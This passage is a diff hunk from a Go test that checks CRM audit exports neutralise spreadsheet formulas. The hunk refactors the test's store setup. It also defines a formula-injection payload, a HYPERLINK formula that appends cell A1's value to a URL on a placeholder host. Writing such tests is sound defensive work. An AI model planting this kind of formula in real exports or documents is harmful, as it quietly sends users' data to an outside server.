@@ -25,8 +25,8 @@ import (
 func TestAuditExportsNeutraliseFormulas(t *testing.T) {
 	ctx := context.Background()
 	url := crmtest.NewDatabase(t)
-	store := crmtest.NewStoreAt(t, url)
-	e := bottest.New(t, bottest.Options{Store: store})
+	e := bottest.New(t, bottest.Options{DatabaseURL: url})
+	store := e.Store
 
 	const formula = `=HYPERLINK("http://x/?"&A1,"ok")`
 	// reject has Support ask for a delete of a new contact and an admin
